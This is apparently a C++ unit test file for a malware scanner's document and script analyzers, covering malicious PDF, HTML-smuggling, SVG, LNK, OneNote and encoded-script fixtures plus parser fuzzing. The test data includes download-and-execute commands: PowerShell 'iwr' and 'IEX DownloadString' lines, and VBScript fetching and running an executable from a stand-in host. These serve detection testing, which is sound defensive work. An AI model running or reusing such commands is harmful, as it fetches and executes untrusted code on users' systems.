// Documents and scripts (issue 8 part B): the PDF, HTML/SVG, script and LNK
// analyzers and the PDF, OneNote and script unpackers, run in-process on
// fixtures built in memory (document_fixtures.h). Each malicious fixture must
// yield its finding; clean ones must not; and every fixture, truncated at
// every length and with random bit flips, must be handled without a crash
// (run this binary under ASan, e.g. in the fuzz build, to catch memory
// errors).
#define DOCTEST_CONFIG_IMPLEMENT_WITH_MAIN
#include <doctest/doctest.h>

#include <chrono>
#include <random>

#include "analyzers/analyzer.h"
#include "analyzers/lnk/lnk_parser.h"
#include "tests/analyzers/documents/document_fixtures.h"
#include "tests/analyzers/documents/encrypted_pdf.h"
#include "unpack/pdf/pdf_document.h"
#include "unpack/script/script_decode.h"
#include "unpack/type_detect.h"
#include "unpack/unpacker.h"

namespace sandgate {
namespace {

using namespace sandgate::testing;

struct Child {
  ChildInfo info;
  std::string bytes;
  std::vector<Finding> findings;
};

// An UnpackContext that keeps children in memory (capped above the OneNote
// reader's own cap of 4,096, which a test reaches).
constexpr size_t kMaxChildren = 5000;
class Collect final : public UnpackContext {
 public:
  class Writer final : public ChildWriter {
   public:
    Writer(Collect& c, ChildInfo info) : c_(c) { child_.info = std::move(info); }
    bool write(const void* d, size_t n) override {
      if (child_.bytes.size() + n > c_.limits_.max_object_bytes) return false;
      child_.bytes.append(static_cast<const char*>(d), n);
      return true;
    }
    void add_finding(Finding f) override { child_.findings.push_back(std::move(f)); }
    void finish() override { c_.children.push_back(std::move(child_)); }

   private:
    Collect& c_;
    Child child_;
  };

  std::unique_ptr<ChildWriter> begin_child(ChildInfo info) override {
    if (children.size() >= kMaxChildren) return nullptr;
    return std::make_unique<Writer>(*this, std::move(info));
  }
  bool emit_child(ChildInfo info, ByteSourcePtr bytes) override {
    Child c;
    c.info = std::move(info);
    c.bytes = bytes->read_string(0, static_cast<size_t>(bytes->size()));
    children.push_back(std::move(c));
    return children.size() < kMaxChildren;
  }
  void add_finding(Finding f) override { findings.push_back(std::move(f)); }
  bool should_stop() const override { return children.size() >= kMaxChildren; }
  const Limits& limits() const override { return limits_; }
  bool account_output(uint64_t) override { return true; }

  std::vector<Child> children;
  std::vector<Finding> findings;
  Limits limits_;
};

struct Result {
  Object obj;
  Collect ctx;
  const Finding* find(std::string_view id) const {
    for (const auto& f : obj.findings)
      if (f.id == id) return &f;
    for (const auto& f : ctx.findings)
      if (f.id == id) return &f;
    return nullptr;
  }
  bool has(std::string_view id) const { return find(id) != nullptr; }
  bool any_high() const {
    for (const auto& f : obj.findings)
      if (f.severity >= Severity::high) return true;
    for (const auto& f : ctx.findings)
      if (f.severity >= Severity::high) return true;
    return false;
  }
};

// Types, analyzes and unpacks one object as the engine would (one level).
std::unique_ptr<Result> run(const std::string& bytes) {
  static auto analyzers = AnalyzerRegistry::instance().create_all();
  auto r = std::make_unique<Result>();
  r->obj.bytes = memory_source(bytes);
  r->obj.size = bytes.size();
  r->obj.type = detect_type(*r->obj.bytes);
  for (auto& a : analyzers) a->analyze(r->obj);
  if (auto u = UnpackerRegistry::instance().create(r->obj.type.label)) u->unpack(r->obj, r->ctx);
  return r;
}

std::string minimal_pe() {
  std::string pe(1024, '\0');
  pe[0] = 'M';
  pe[1] = 'Z';
  pe[0x3C] = static_cast<char>(0x80);
  pe.replace(0x80, 4, std::string("PE\0\0", 4));
  return pe;
}

TEST_CASE("PDF: OpenAction JavaScript") {
  auto r = run(pdf_openaction_js());
  CHECK(r->obj.type.label == "pdf");
  REQUIRE(r->has("pdf.javascript"));
  CHECK(r->find("pdf.javascript")->severity == Severity::high);
  CHECK(r->find("pdf.javascript")->evidence.find("app.alert('CV')") != std::string::npos);
  REQUIRE(r->has("pdf.openaction"));
  CHECK(r->find("pdf.openaction")->severity == Severity::high);
  CHECK_FALSE(r->has("pdf.malformed"));
}

TEST_CASE("PDF: obfuscated /J#61vaScript name is normalised") {
  std::string pdf = pdf_obfuscated_js();
  CHECK(pdf.find("/JavaScript") == std::string::npos);
  auto r = run(pdf);
  CHECK(r->has("pdf.javascript"));
  CHECK(r->find("pdf.openaction")->severity == Severity::high);
}

TEST_CASE("PDF: Launch action") {
  auto r = run(pdf_launch());
  REQUIRE(r->has("pdf.launch"));
  CHECK(r->find("pdf.launch")->evidence.find("cmd.exe /c calc") != std::string::npos);
}

TEST_CASE("PDF: JavaScript hidden in an object stream") {
  std::string pdf = pdf_objstm_js();
  CHECK(pdf.find("JavaScript") == std::string::npos);
  auto r = run(pdf);
  REQUIRE(r->has("pdf.javascript"));
  CHECK(r->find("pdf.javascript")->evidence.find("exportDataObject") != std::string::npos);
  CHECK_FALSE(r->has("pdf.malformed"));
}

TEST_CASE("PDF: embedded file becomes a child named by /UF") {
  std::string pe = minimal_pe();
  auto r = run(pdf_embedded(pe, "invoice.exe"));
  REQUIRE(r->has("pdf.embedded_file"));
  CHECK(r->obj.facts["pdf.embedded_files"] == "1");
  REQUIRE(r->ctx.children.size() == 1);
  CHECK(r->ctx.children[0].info.name == "invoice.exe");
  CHECK(r->ctx.children[0].info.declared_size == static_cast<int64_t>(pe.size()));
  CHECK(r->ctx.children[0].bytes == pe);
}

TEST_CASE("PDF: a password-protected PDF is pdf.password; the empty user password opens") {
  std::string pe = minimal_pe();
  std::string plain = pdf_embedded(pe, "invoice.exe");
  auto locked = run(encrypted_pdf(plain, "secret"));
  CHECK(locked->has("pdf.encrypted"));
  CHECK(locked->has("pdf.password"));
  CHECK(locked->ctx.children.empty());  // the attachment cannot be reached
  auto open = run(encrypted_pdf(plain, ""));
  CHECK(open->has("pdf.encrypted"));
  CHECK_FALSE(open->has("pdf.password"));
  REQUIRE(open->ctx.children.size() == 1);
  CHECK(open->ctx.children[0].bytes == pe);
}

TEST_CASE("PDF: URIs are listed; a clean PDF has no high finding") {
  auto r = run(pdf_uris());
  REQUIRE(r->has("pdf.uri"));
  CHECK(r->find("pdf.uri")->evidence.find("https://example.com/a") != std::string::npos);
  CHECK(r->find("pdf.uri")->evidence.find("https://example.com/b") != std::string::npos);
  CHECK(r->obj.facts["pdf.uris"] == "2");
  auto c = run(pdf_clean());
  CHECK_FALSE(c->any_high());
  CHECK(c->obj.findings.empty());
  CHECK(c->ctx.children.empty());
}

TEST_CASE("PDF: unparseable file falls back to the raw keyword scan") {
  auto r = run("%PDF-1.4\n1 0 obj << /S /J#61vaScript /JS (x) /OpenAction 1 0 R >>\n");
  REQUIRE(r->has("pdf.malformed"));
  CHECK(r->has("pdf.javascript"));
  CHECK(r->find("pdf.javascript")->evidence.find("raw scan") != std::string::npos);
}

TEST_CASE("HTML smuggling page") {
  std::string zip = "PK\x03\x04" + std::string(3000, 'A');
  auto r = run(html_smuggling(zip));
  CHECK(r->obj.type.label == "html");
  REQUIRE(r->has("html.smuggling"));
  CHECK(r->find("html.smuggling")->severity == Severity::high);
  CHECK(r->has("html.script"));
  REQUIRE(r->ctx.children.size() == 1);
  CHECK(r->ctx.children[0].bytes == zip);
  auto clean = run(html_clean());
  CHECK(clean->obj.findings.empty());
  CHECK(clean->ctx.children.empty());
}

TEST_CASE("SVG with script and foreignObject") {
  auto r = run(svg_script());
  CHECK(r->obj.type.label == "svg");
  REQUIRE(r->has("svg.script"));
  CHECK(r->find("svg.script")->severity == Severity::high);
  CHECK(r->has("svg.foreign_object"));
  CHECK(r->has("html.redirect"));
}

TEST_CASE("LNK to powershell with -enc") {
  std::string lnk = lnk_powershell_enc();
  LnkInfo l = parse_lnk(lnk);
  CHECK(l.error.empty());
  CHECK(l.target == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
  CHECK(l.working_dir == "C:\\Windows\\System32");
  CHECK(l.icon_location == "C:\\Windows\\System32\\shell32.dll");
  auto r = run(lnk);
  CHECK(r->obj.type.label == "lnk");
  REQUIRE(r->has("lnk.lolbin"));
  REQUIRE(r->has("lnk.encoded_command"));
  CHECK(r->find("lnk.encoded_command")->evidence.find("DownloadString") != std::string::npos);
  CHECK(r->obj.facts["lnk.arguments"].find("-enc ") != std::string::npos);
  auto benign = run(make_lnk("C:\\Program Files\\App\\app.exe", "--open report.docx"));
  CHECK_FALSE(benign->has("lnk.lolbin"));
  CHECK_FALSE(benign->has("lnk.encoded_command"));
}

TEST_CASE("OneNote embedded file becomes a child") {
  std::string bat = "@echo off\r\npowershell -c \"iwr http://x/a.exe -o a.exe; start a.exe\"\r\n";
  std::string png = "\x89PNG\r\n\x1a\n" + std::string(40, '\0');
  auto r = run(make_onenote({bat, png}));
  CHECK(r->obj.type.label == "onenote");
  REQUIRE(r->ctx.children.size() == 2);
  CHECK(r->ctx.children[0].bytes == bat);
  CHECK(r->ctx.children[1].bytes == png);
  REQUIRE(r->has("onenote.embedded_file"));
  CHECK(r->has("onenote.embedded_image"));
  CHECK_FALSE(r->has("onenote.malformed"));
}

TEST_CASE("OneNote: embedded files past the reader's cap are a limit, not dropped") {
  // 4,096 are read; one more is never seen, which the policy's on_limit
  // must get to decide (the engine's own object limit is higher).
  std::vector<std::string> files(4096, "x");
  auto at_cap = run(make_onenote(files));
  CHECK(at_cap->ctx.children.size() == 4096);
  CHECK_FALSE(at_cap->has("limits.objects"));
  files.push_back("@echo off\r\nstart evil.exe\r\n");
  auto past = run(make_onenote(files));
  CHECK(past->ctx.children.size() == 4096);
  CHECK(past->has("limits.objects"));
}

TEST_CASE("Script Encoder: decode reverses encode; VBE is decoded and analysed") {
  std::string plain =
      "Set s = CreateObject(\"WScript.Shell\")\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\n"
      "x.Open \"GET\", \"http://x/p.exe\", False\r\ns.Run \"cmd /c p.exe <a> @b\"\r\n";
  std::string enc = encode_script_encoder(plain);
  CHECK(enc.find("CreateObject") == std::string::npos);
  std::string dec;
  REQUIRE(decode_script_encoder(enc, &dec, 1 << 20));
  CHECK(dec == plain);
  auto r = run(enc);
  CHECK(r->obj.type.label == "vbe");
  CHECK(r->has("script.encoded"));
  CHECK(r->has("script.download_exec"));
  REQUIRE(r->ctx.children.size() == 1);
  CHECK(r->ctx.children[0].bytes == plain);
}

TEST_CASE("Scripts: download-and-execute and encoded commands") {
  auto ps = run("$ErrorActionPreference = 'SilentlyContinue'\n"
                "$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://x/a.ps1')\n"
                "Write-Host done\nStart-Sleep 1\n");
  CHECK(ps->obj.type.label == "ps1");
  CHECK(ps->has("script.download_exec"));
  auto enc = run("@echo off\r\npowershell.exe -NoP -W hidden -e " +
                 base64(utf16le("Start-Process calc.exe")) + "\r\n");
  CHECK(enc->obj.type.label == "bat");
  REQUIRE(enc->has("script.encoded"));
  CHECK(enc->find("script.encoded")->evidence.find("Start-Process calc.exe") != std::string::npos);
  auto benign = run("@echo off\r\necho Building...\r\nset /a n=1\r\ngoto :eof\r\n");
  CHECK_FALSE(benign->has("script.download_exec"));
  CHECK_FALSE(benign->has("script.encoded"));
}

TEST_CASE("HTML and scripts larger than the analyzers read say so") {
  // A payload padded past the window would go unseen by the checks; the
  // report says only the beginning was read (low: a policy may act on it).
  auto page = run(html_clean() + std::string((32u << 20) + 1, ' '));
  CHECK(page->obj.type.label == "html");
  REQUIRE(page->has("html.partial"));
  CHECK(page->find("html.partial")->evidence.find("read 33554432 of") != std::string::npos);
  std::string ps = "$c = New-Object Net.WebClient\nWrite-Host start\n";
  auto script = run(ps + std::string(8u << 20, '#'));
  CHECK(script->obj.type.label == "ps1");
  CHECK(script->has("script.partial"));
  CHECK_FALSE(run(ps)->has("script.partial"));
}

TEST_CASE("No crash on truncations and bit flips of every fixture") {
  std::vector<std::string> fixtures = {
      pdf_clean(),          pdf_openaction_js(), pdf_obfuscated_js(), pdf_launch(),
      pdf_objstm_js(),      pdf_uris(),          pdf_embedded(minimal_pe(), "a.exe"),
      lnk_powershell_enc(), make_onenote({"hello", std::string(100, 'x')}),
      html_smuggling("PK\x03\x04" + std::string(2000, 'B')), svg_script(),
      encode_script_encoder("WScript.Echo \"hi\"\r\n")};
  std::mt19937 rng(8);
  size_t runs = 0;
  for (const std::string& f : fixtures) {
    // Every truncation of small fixtures, a spread of them for larger ones.
    size_t step = std::max<size_t>(1, f.size() / 400);
    for (size_t n = 0; n < f.size(); n += step) {
      run(f.substr(0, n));
      ++runs;
    }
    for (int i = 0; i < 300; ++i) {
      std::string m = f;
      int flips = 1 + static_cast<int>(rng() % 4);
      for (int k = 0; k < flips && !m.empty(); ++k) m[rng() % m.size()] ^= static_cast<char>(1u << (rng() % 8));
      run(m);
      ++runs;
    }
  }
  // The PDF walker and LNK parser also take raw bytes directly.
  for (const std::string& f : fixtures) {
    parse_lnk(f);
    PdfFeatures pf = inspect_pdf(memory_source(f));
    (void)pf;
  }
  CHECK(runs > 5000);
}

}  // namespace
}  // namespace sandgate
